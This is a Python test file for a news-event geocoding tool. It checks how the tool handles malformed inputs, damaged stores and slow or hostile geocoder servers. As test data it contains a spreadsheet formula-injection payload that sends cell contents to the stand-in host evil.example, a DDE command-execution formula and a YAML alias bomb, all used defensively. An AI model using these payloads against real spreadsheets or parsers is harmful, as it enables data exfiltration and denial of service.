"""Nothing lost, nothing hung, no traceback: issue 16's rows, each as a user meets it.

Every test goes through the command line (or the public API) so that it states what a
user sees: the exit code, the line on stderr naming the file and the reason, the files
left in the output folder, the events kept in the store.
"""

from __future__ import annotations

import contextlib
import csv
import json
import os
import sqlite3
import subprocess
import sys
import time
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner
from conftest import PUBLISHED, incident_report
from nominatim_server import NominatimServer, nominatim_server  # noqa: F401 (the fixture)

from geomap.articles import read_articles
from geomap.cli import EXIT_ERROR, EXIT_SOME_FAILED, cli
from geomap.errors import ArticleError

STORE = "geomap.sqlite"
GEOMAP = [sys.executable, "-m", "geomap"]


def geomap(*args: object):
    return CliRunner().invoke(cli, [str(a) for a in args], catch_exceptions=False)


def geomap_process(*args: object, timeout: float = 240, **kwargs) -> subprocess.CompletedProcess:
    """geomap in its own process: what a shell user gets, stdout and stderr as bytes."""
    return subprocess.run([*GEOMAP, *(os.fsencode(a) if isinstance(a, Path) else str(a) for a in args)],
                          capture_output=True, timeout=timeout, **kwargs)


def stored_events(out: Path) -> int:
    with contextlib.closing(sqlite3.connect(out / STORE)) as con:
        return con.execute("SELECT COUNT(*) FROM events").fetchone()[0]


def stored_paths(out: Path) -> list[str]:
    with contextlib.closing(sqlite3.connect(out / STORE)) as con:
        return [r[0] for r in con.execute("SELECT path FROM articles ORDER BY seq")]


def no_traceback(*texts: str | bytes) -> None:
    for text in texts:
        text = text.decode("utf-8", "replace") if isinstance(text, bytes) else text
        assert "Traceback" not in text, text


def first_run(tmp_path: Path, indices=(0, 1, 2)) -> Path:
    """A store with the events of a few reports; returns the output folder."""
    folder, out = tmp_path / "first", tmp_path / "out"
    folder.mkdir()
    for i in indices:
        (folder / f"{i:02d}.txt").write_text(incident_report(i), encoding="utf-8")
    result = geomap("run", folder, "--out", out, "--published", PUBLISHED)
    assert result.exit_code == 0, result.output
    return out


# -- row 1: an article over spaCy's max_length is processed in sentence-aligned pieces ---------------


def test_an_article_longer_than_the_models_limit_is_read_in_pieces(tmp_path, gazetteer, monkeypatch):
    from geomap.extract.nlp import load_nlp

    # The model's limit is 1,000,000 characters; a lower one shows the same thing in seconds.
    monkeypatch.setattr(load_nlp(), "max_length", 3000)
    filler = "Officials met in the capital to discuss the budget for schools and roads. " * 60
    long_text = f"{incident_report(3).strip()}\n\n{filler}\n\n{incident_report(8).split(chr(10), 2)[2]}"
    assert len(long_text) > 4000
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "long.txt").write_text(long_text, encoding="utf-8")
    (folder / "short.txt").write_text(incident_report(9), encoding="utf-8")
    out = tmp_path / "out"
    result = geomap("run", folder, "--out", out, "--published", PUBLISHED)
    assert result.exit_code == 0, result.output
    events = pd.read_csv(out / "events.csv", dtype=str, keep_default_na=False)
    places = sorted(events["place_text"])
    assert {"Poltava", "Kramatorsk"} <= set(places), places  # the end of the long one, and the short one
    # Offsets point into the whole text, not into a piece.
    with contextlib.closing(sqlite3.connect(out / STORE)) as con:
        text_of = dict(con.execute("SELECT id, text FROM articles"))
    for row in events.itertuples():
        text = text_of[row.article_id]
        assert text[int(row.trigger_start):int(row.trigger_end)] == row.trigger_text


# -- rows 2, 3, 4: the path reader classifies what it finds ------------------------------------------


def test_a_named_pipe_in_the_input_folder_is_skipped_and_named(tmp_path, gazetteer):
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "good.txt").write_text(incident_report(8), encoding="utf-8")
    os.mkfifo(folder / "pipe.txt")
    result = geomap_process("run", folder, "--out", tmp_path / "out", "--published", PUBLISHED, timeout=180)
    stderr = result.stderr.decode()
    assert result.returncode == EXIT_SOME_FAILED, stderr
    assert f"Failed: {folder / 'pipe.txt'}: a named pipe (FIFO), not a regular file; skipped" in stderr
    no_traceback(stderr)


def test_a_named_pipe_given_by_name_is_not_opened():
    items = list(read_articles(["/dev/null"]))
    assert [type(i) for i in items] == [ArticleError]
    assert items[0].reason == "a character device, not a regular file; skipped"


def test_a_file_name_that_is_not_utf8_is_read_and_shown_escaped(tmp_path, gazetteer):
    folder = tmp_path / "in"
    folder.mkdir()
    raw = os.fsencode(folder)
    with open(raw + b"/caf\xe9.txt", "wb") as fh:
        fh.write(incident_report(8).encode())
    with open(raw + b"/empty-\xff.txt", "wb"):
        pass
    out = tmp_path / "out"
    result = geomap_process("run", folder, "--out", out, "--published", PUBLISHED)
    stderr = result.stderr.decode()
    no_traceback(stderr, result.stdout)
    assert result.returncode == EXIT_SOME_FAILED, stderr
    assert f"Failed: {folder}/empty-\\xff.txt: empty file" in stderr
    assert stored_paths(out) == [f"{folder}/caf\\xe9.txt"]
    assert pd.read_csv(out / "events.csv")["place_text"].tolist() == ["Poltava"]


def _without_root_read_rights() -> None:
    """In the child, before exec: drop the capabilities that let root read any folder
    (CAP_DAC_OVERRIDE 1, CAP_DAC_READ_SEARCH 2) from the bounding set, so geomap runs
    as a user that folder permissions apply to."""
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    for capability in (1, 2):
        if libc.prctl(24, capability, 0, 0, 0) != 0:  # PR_CAPBSET_DROP
            raise OSError(ctypes.get_errno(), "prctl(PR_CAPBSET_DROP)")


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="folder permissions as Linux has them")
def test_a_folder_that_cannot_be_read_is_named_with_the_reason(tmp_path, gazetteer):
    folder = tmp_path / "in"
    (folder / "closed").mkdir(parents=True)
    (folder / "good.txt").write_text(incident_report(8), encoding="utf-8")
    (folder / "closed" / "hidden.txt").write_text(incident_report(9), encoding="utf-8")
    (folder / "closed").chmod(0)
    try:
        result = geomap_process("run", folder, "--out", tmp_path / "out", "--published", PUBLISHED,
                                preexec_fn=_without_root_read_rights if os.geteuid() == 0 else None)
    finally:
        (folder / "closed").chmod(0o755)
    stderr = result.stderr.decode()
    no_traceback(stderr)
    assert result.returncode == EXIT_SOME_FAILED, stderr
    assert f"Failed: {folder / 'closed'}: cannot read the folder: Permission denied" in stderr
    assert pd.read_csv(tmp_path / "out" / "events.csv")["place_text"].tolist() == ["Poltava"]


# -- rows 5, 6: one CSV writer, formula guard and quoting, every CSV round-trips ------------------------


HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the report")'


def _feed(tmp_path: Path, lines: list[dict]) -> Path:
    folder = tmp_path / "in"
    folder.mkdir(exist_ok=True)
    (folder / "feed.jsonl").write_text("".join(json.dumps(line) + "\n" for line in lines), encoding="utf-8")
    return folder


def test_formulas_in_titles_and_urls_are_guarded_in_every_csv(tmp_path, gazetteer):
    folder = _feed(tmp_path, [
        {"id": "f1", "text": incident_report(8), "title": HOSTILE_TITLE, "url": "@SUM(1+1)*cmd|' /C calc'!A0"},
        {"id": "f2", "text": incident_report(9), "title": "+1 shelling", "url": "https://example.org/-a"},
    ])
    out = tmp_path / "out"
    assert geomap("run", folder, "--out", out, "--published", PUBLISHED).exit_code == 0
    exported = tmp_path / "export.csv"
    assert geomap("export", "--out", out, "-o", exported).exit_code == 0
    for path in (out / "events.csv", exported):
        rows = list(csv.DictReader(path.open(encoding="utf-8", newline="")))
        cells = {row["article_id"]: row for row in rows}
        assert cells["f1"]["source_title"] == "'" + HOSTILE_TITLE
        assert cells["f1"]["source_url"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
        assert cells["f2"]["source_title"] == "'+1 shelling"
        assert cells["f2"]["source_url"] == "https://example.org/-a"
        assert all(not v.startswith(("=", "+", "@")) for row in rows for v in row.values())
        # Numbers are numbers: a negative longitude is not a formula.
        assert all(float(row["lat"]) for row in rows)
    # geomap reads its own CSV back as it was.
    from geomap.store import read_events

    back = read_events(out / "events.csv").set_index("article_id")
    assert back.loc["f1", "source_title"] == HOSTILE_TITLE
    assert back.loc["f2", "source_title"] == "+1 shelling"


def test_a_carriage_return_in_a_title_keeps_the_csv_rows_whole(tmp_path, gazetteer):
    folder = _feed(tmp_path, [
        # A lone carriage return: the csv module quotes a field with "\n", not one with only "\r".
        {"id": "r1", "text": incident_report(8), "title": "Strike\rin\rPoltava"},
        {"id": "r2", "text": incident_report(9), "title": "Kramatorsk, \"again\""},
    ])
    out = tmp_path / "out"
    assert geomap("run", folder, "--out", out, "--published", PUBLISHED).exit_code == 0
    frame = pd.read_csv(out / "events.csv", dtype=str, keep_default_na=False)
    assert len(frame) == stored_events(out) == 2
    assert sorted(frame["source_title"]) == ["Kramatorsk, \"again\"", "Strike\rin\rPoltava"]
    result = geomap("render", out / "events.csv", "-o", tmp_path / "again.html")
    assert result.exit_code == 0, result.output
    assert result.stdout.startswith("Wrote 2 events (2 on the map)")


# -- rows 7, 15, 16: one store-open path that checks integrity -------------------------------------------


def _damage_zero_length(store: Path) -> None:
    store.write_bytes(b"")


def _damage_middle(store: Path) -> None:
    data = bytearray(store.read_bytes())
    assert len(data) > 5 * 4096
    middle = len(data) // 2 // 4096 * 4096
    data[middle : middle + 4096] = os.urandom(4096)  # one page, its header included
    store.write_bytes(bytes(data))


@pytest.mark.parametrize("damage", [_damage_zero_length, _damage_middle], ids=["zero-length", "random-bytes-inside"])
def test_a_damaged_store_is_reported_and_nothing_written_is_overwritten(tmp_path, gazetteer, damage):
    out = first_run(tmp_path, range(6))
    before = {name: (out / name).read_bytes() for name in ("events.csv", "events.geojson", "map.html")}
    damage(out / STORE)
    damaged = (out / STORE).read_bytes()
    new = tmp_path / "new"
    new.mkdir()
    (new / "a.txt").write_text(incident_report(9), encoding="utf-8")

    result = geomap("run", new, "--out", out, "--published", PUBLISHED)
    assert result.exit_code == EXIT_ERROR, result.output
    assert result.stderr.startswith(f"Error: the event store {out / STORE} is damaged (")
    assert "--new-store" in result.stderr
    assert {name: (out / name).read_bytes() for name in before} == before
    assert (out / STORE).read_bytes() == damaged

    for command in (("rebuild", "--out", out), ("export", "--out", out, "-o", tmp_path / "x.csv")):
        again = geomap(*command)
        assert again.exit_code == EXIT_ERROR, again.output
        assert "is damaged" in again.stderr
    assert {name: (out / name).read_bytes() for name in before} == before

    kept = geomap("run", new, "--out", out, "--published", PUBLISHED, "--new-store")
    assert kept.exit_code == 0, kept.output
    aside = sorted(out.glob(f"{STORE}.damaged-*"))
    assert [p.read_bytes() for p in aside if not p.name.endswith(("-wal", "-shm"))] == [damaged]
    assert f"kept the damaged store as {aside[0]}" in kept.stderr
    assert stored_events(out) == 1


def test_export_of_a_store_with_undecodable_text_is_an_error(tmp_path, gazetteer):
    out = first_run(tmp_path)
    with contextlib.closing(sqlite3.connect(out / STORE)) as con:
        con.execute("UPDATE events SET source_title = CAST(X'4b7969ff76' AS TEXT)")
        con.commit()
    result = geomap("export", "--out", out, "-o", tmp_path / "events.csv")
    assert result.exit_code == EXIT_ERROR, result.output
    assert result.stderr.startswith(f"Error: {out / STORE}: cannot read the events")
    assert not (tmp_path / "events.csv").exists()


def test_store_errors_say_what_is_wrong(tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    (out / STORE).write_bytes(b"not a database, just text\n" * 400)
    result = geomap("export", "--out", out, "-o", tmp_path / "x.csv")
    assert result.exit_code == EXIT_ERROR
    assert "is damaged" in result.stderr or "is not an SQLite database" in result.stderr
    other = tmp_path / "other"
    other.mkdir()
    with contextlib.closing(sqlite3.connect(other / STORE)) as con:
        con.execute("CREATE TABLE t (x)")
        con.commit()
    result = geomap("export", "--out", other, "-o", tmp_path / "y.csv")
    assert result.exit_code == EXIT_ERROR
    assert result.stderr.startswith(f"Error: {other / STORE}: an SQLite database but not a geomap event store")


# -- row 8: an id collision between a JSONL line and a file article is reported, not a replacement -----


def test_a_jsonl_id_equal_to_a_file_articles_id_does_not_replace_it(tmp_path, gazetteer):
    from geomap.articles import article_id

    out = first_run(tmp_path, [8])
    taken = article_id(incident_report(8))
    folder = _feed(tmp_path, [{"id": taken, "text": incident_report(9)}])
    result = geomap("run", folder, "--out", out, "--published", PUBLISHED)
    assert result.exit_code == EXIT_SOME_FAILED, result.output
    assert (f"Failed: {folder / 'feed.jsonl'}:1: id {taken!r} is already the id of the article read from "
            f"{tmp_path / 'first' / '08.txt'}, with another text; give the line another id") in result.stderr
    places = pd.read_csv(out / "events.csv")["place_text"].tolist()
    assert places == ["Poltava"]


# -- row 9, 14: overrides ----------------------------------------------------------------------------


def test_an_overrides_geonameid_past_64_bits_is_named(tmp_path, gazetteer):
    out = first_run(tmp_path, [8])
    overrides = tmp_path / "fix.csv"
    overrides.write_text("place_text,geonameid,note\nPoltava,184467440737095516160,x\n", encoding="utf-8")
    result = geomap("run", tmp_path / "first", "--out", out, "--overrides", overrides)
    assert result.exit_code == EXIT_ERROR, result.output
    assert result.stderr.startswith(f"Error: {overrides}:2: geonameid '184467440737095516160' is out of range")


def test_a_yaml_alias_bomb_is_refused_fast(tmp_path):
    bomb = tmp_path / "bomb.yaml"
    # A list of one correction whose place is 9**9 strings, through aliases.
    lines = ["- place_text: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
    for i in range(1, 9):
        name, prev = chr(ord("a") + i), chr(ord("a") + i - 1)
        lines.append(f"  x{name}: &{name} [{', '.join(['*' + prev] * 9)}]")
    lines.append("  note: *i")
    bomb.write_text("\n".join(lines) + "\n", encoding="utf-8")
    assert bomb.stat().st_size < 1200
    code = ("import resource, sys; resource.setrlimit(resource.RLIMIT_AS, (3 * 2**30, 3 * 2**30));"
            "from geomap.cli import main; sys.argv = ['geomap', 'run', sys.argv[1], '--out', sys.argv[2],"
            " '--overrides', sys.argv[3]]; main()")
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "a.txt").write_text(incident_report(8), encoding="utf-8")
    started = time.monotonic()
    result = subprocess.run([sys.executable, "-c", code, str(folder), str(tmp_path / "out"), str(bomb)],
                            capture_output=True, timeout=120, text=True)
    assert result.returncode == EXIT_ERROR, result.stderr[-2000:]
    # Line 7, "note: *i", is where the expansion passes the limit.
    assert result.stderr.startswith(f"Error: {bomb}:7: the YAML expands to more than 1,000,000 values")
    assert time.monotonic() - started < 60
    assert not (tmp_path / "out" / STORE).exists()


# -- row 10: a published date of 0001-01-01 ------------------------------------------------------------


def test_an_implausible_published_date_falls_back_and_is_reported(tmp_path, gazetteer):
    folder = _feed(tmp_path, [
        {"id": "old", "text": "Shelling killed two people in Kharkiv on Monday.", "published": "0001-01-01"},
        {"id": "ok", "text": incident_report(8)},
    ])
    out = tmp_path / "out"
    result = geomap("run", folder, "--out", out, "--published", PUBLISHED)
    no_traceback(result.output)
    assert result.exit_code == 0, result.output
    assert (f"Warning: {folder / 'feed.jsonl'}:1: 'published' 0001-01-01 is not a plausible publication date "
            "(before 1900); the article's dates fall back to --published or the text") in result.stderr
    events = pd.read_csv(out / "events.csv", dtype=str, keep_default_na=False).set_index("article_id")
    assert events.loc["old", "event_date"] == "2025-03-03"  # the Monday before --published
    assert events.loc["ok", "place_text"] == "Poltava"


def test_a_relative_date_against_the_first_day_of_the_calendar_is_no_date():
    import datetime as dt

    from geomap.extract.dates import parse_date

    assert parse_date("on Monday", dt.date(1, 1, 1)) is None


# -- rows 11, 18: paths that cannot be used are named ------------------------------------------------------


def _lock_is_a_folder(tmp_path: Path) -> tuple[Path, str]:
    out = tmp_path / "out"
    (out / f"{STORE}.lock").mkdir(parents=True)
    return out, f"Error: cannot take the run lock {out / (STORE + '.lock')}: Is a directory"


def _proc(tmp_path: Path) -> tuple[Path, str]:
    return Path("/proc/self"), "Error: cannot take the run lock /proc/self/geomap.sqlite.lock:"


def _long_name(tmp_path: Path) -> tuple[Path, str]:
    out = tmp_path / ("x" * 300)
    return out, f"Error: {out}/overrides.csv: File name too long"


def _events_csv_is_a_folder(tmp_path: Path) -> tuple[Path, str]:
    out = tmp_path / "out"
    (out / "events.csv").mkdir(parents=True)
    return out, f"Error: cannot write {out / 'events.csv'}:"


@pytest.mark.parametrize("setup", [_lock_is_a_folder, _proc, _long_name, _events_csv_is_a_folder],
                         ids=["lock-is-a-folder", "out-is-proc-self", "300-character-name", "events-csv-is-a-folder"])
def test_an_output_folder_that_cannot_be_used_is_named(tmp_path, gazetteer, setup):
    out, expected = setup(tmp_path)
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "a.txt").write_text(incident_report(8), encoding="utf-8")
    result = geomap("run", folder, "--out", out, "--published", PUBLISHED)
    no_traceback(result.output)
    assert result.exit_code == EXIT_ERROR, result.output
    assert result.stderr.startswith(expected), result.stderr


def test_an_empty_out_is_refused(tmp_path, gazetteer):
    result = geomap("run", tmp_path, "--out", "")
    assert result.exit_code == 2
    assert "--out" in result.stderr and "empty" in result.stderr


def test_an_output_folder_inside_the_input_folder_is_not_read_back(tmp_path, gazetteer):
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "a.txt").write_text(incident_report(8), encoding="utf-8")
    out = folder / "out"
    first = geomap("run", folder, "--out", out, "--published", PUBLISHED)
    assert first.exit_code == 0, first.output
    again = geomap("run", folder, "--out", out, "--published", PUBLISHED)
    assert again.exit_code == 0, again.output
    assert again.stdout.startswith("Read 1 article; 1 unchanged;")


def test_temporary_files_left_by_a_killed_run_are_removed(tmp_path, gazetteer):
    out = first_run(tmp_path)
    for name in (".events.csv.k2j4h1", ".events.geojson.x8f", ".map.html.0a1b"):
        (out / name).write_text("half", encoding="utf-8")
    result = geomap("run", tmp_path / "first", "--out", out)
    assert result.exit_code == 0, result.output
    assert sorted(p.name for p in out.iterdir() if p.name.startswith(".")) == []


# -- an unexpected internal error: one line and the log file -----------------------------------------------


def test_an_unexpected_error_prints_one_line_and_the_log_with_the_traceback(tmp_path, gazetteer, monkeypatch):
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "a.txt").write_text(incident_report(8), encoding="utf-8")

    import folium

    def broken(*args, **kwargs):
        raise RuntimeError("a fault injected into folium")

    # A fault in a library geomap uses, of a kind no handler expects.
    monkeypatch.setattr(folium.Map, "get_root", broken)
    result = CliRunner().invoke(cli, ["run", str(folder), "--out", str(tmp_path / "out"), "--published", PUBLISHED])
    assert result.exit_code == EXIT_ERROR, result.output
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1, result.stderr
    assert lines[0].startswith("Error: an internal error stopped geomap (RuntimeError: a fault injected into folium); "
                               "the details are in ")
    log = Path(lines[0].rsplit(" ", 1)[1].rstrip("."))
    text = log.read_text(encoding="utf-8")
    assert "Traceback (most recent call last)" in text and "a fault injected into folium" in text
    no_traceback(result.output)



# -- rows 12, 13: the online geocoder stays bounded (against the local Nominatim) ---------------------------


def _lookup(server: NominatimServer, *, timeout: float = 1.0, cache=None, **kwargs):
    from test_online_geocoder import OFFLINE, FakeClock, TinyGazetteer

    from geomap.geocode.online import OnlineLookup, make_geocoder

    clock = FakeClock()
    fallback = TinyGazetteer(OFFLINE)
    geocoder = make_geocoder("nominatim", domain=server.domain, scheme="http", timeout=timeout)
    lookup = OnlineLookup(geocoder, cache=cache, fallback=fallback, sleep=clock.sleep, clock=clock, **kwargs)
    return lookup, fallback


def test_a_geocoder_that_drips_its_answer_is_cut_off_at_the_deadline(nominatim_server):
    nominatim_server.fail("drip")  # a byte every 0.25 s: each read is quick, the answer takes half a minute
    lookup, fallback = _lookup(nominatim_server, timeout=1.0, max_retries=1)
    started = time.monotonic()
    places = lookup.lookup("Luhansk", limit=5)
    elapsed = time.monotonic() - started
    assert [p.source for p in places] == ["geonames"]  # the offline gazetteer answered
    assert fallback.asked == ["Luhansk"]
    assert nominatim_server.count == 2  # one try, one retry
    assert elapsed < 2 * 1.0 + 2.0, elapsed  # each request ends at its 1 s deadline
    assert nominatim_server.sent_bytes < 20


def test_an_endless_answer_is_cut_at_the_size_cap(nominatim_server, tmp_path):
    from geomap.geocode.cache import GeocodeCache

    nominatim_server.fail("endless")
    cache = GeocodeCache(tmp_path / STORE)
    lookup, fallback = _lookup(nominatim_server, timeout=5.0, max_retries=0, cache=cache)
    places = lookup.lookup("Luhansk", limit=5)
    assert [p.source for p in places] == ["geonames"]
    assert nominatim_server.sent_bytes < 12_000_000  # 50 MB were on offer
    with contextlib.closing(sqlite3.connect(tmp_path / STORE)) as con:
        assert con.execute("SELECT COUNT(*) FROM geocode_cache").fetchone()[0] == 0
    cache.close()


def test_tens_of_thousands_of_places_are_capped_before_they_are_kept(nominatim_server, tmp_path):
    from geomap.geocode.cache import GeocodeCache
    from geomap.geocode.online import MAX_PLACES

    nominatim_server.many_places = 25_000  # 4 MB of answer, under the size cap
    nominatim_server.fail("many-places")
    cache = GeocodeCache(tmp_path / STORE)
    lookup, _ = _lookup(nominatim_server, timeout=20.0, max_retries=0, cache=cache)
    started = time.process_time()
    places = lookup.lookup("Luhansk")
    assert len(places) == MAX_PLACES == 50
    assert len({p.geonameid for p in places}) == MAX_PLACES
    again = lookup.lookup("Luhansk")  # from the cache, which keeps no more than that either
    assert again == places and nominatim_server.count == 1
    assert time.process_time() - started < 30
    cache.close()


def test_a_redirect_to_another_host_is_not_followed(nominatim_server, tmp_path):
    from geomap.geocode.cache import GeocodeCache

    with NominatimServer() as elsewhere:
        port = elsewhere.domain.rsplit(":", 1)[1]
        nominatim_server.fail("redirect", location=f"http://localhost:{port}/search?q=Sydney&format=json")
        cache = GeocodeCache(tmp_path / STORE)
        lookup, fallback = _lookup(nominatim_server, max_retries=2, cache=cache)
        places = lookup.lookup("Luhansk", limit=5)
        assert [p.source for p in places] == ["geonames"]
        assert elsewhere.count == 0
        assert nominatim_server.count == 1  # a redirect away is a fault, not worth retrying
        with contextlib.closing(sqlite3.connect(tmp_path / STORE)) as con:
            assert con.execute("SELECT COUNT(*) FROM geocode_cache").fetchone()[0] == 0
        cache.close()


def test_a_redirect_within_the_configured_host_is_followed(nominatim_server):
    nominatim_server.fail("redirect", times=1,
                          location=f"http://{nominatim_server.domain}/search?q=Luhansk&format=json&addressdetails=1")
    lookup, fallback = _lookup(nominatim_server)
    places = lookup.lookup("Luhansk", limit=5)
    assert places and places[0].source == "nominatim"
    assert fallback.asked == []
    assert nominatim_server.count == 2


def test_a_run_against_a_dripping_geocoder_stays_bounded(tmp_path, gazetteer, nominatim_server):
    nominatim_server.fail("drip")
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "a.txt").write_text(incident_report(8), encoding="utf-8")
    started = time.monotonic()
    result = geomap("run", folder, "--out", tmp_path / "out", "--published", PUBLISHED,
                    "--geocoder", "nominatim", "--geocoder-domain", nominatim_server.domain,
                    "--geocoder-scheme", "http", "--geocoder-min-delay", "0", "--geocoder-timeout", "1",
                    "--geocoder-retries", "0")
    assert result.exit_code == 0, result.output
    assert time.monotonic() - started < 60
    assert pd.read_csv(tmp_path / "out" / "events.csv")["place_text"].tolist() == ["Poltava"]
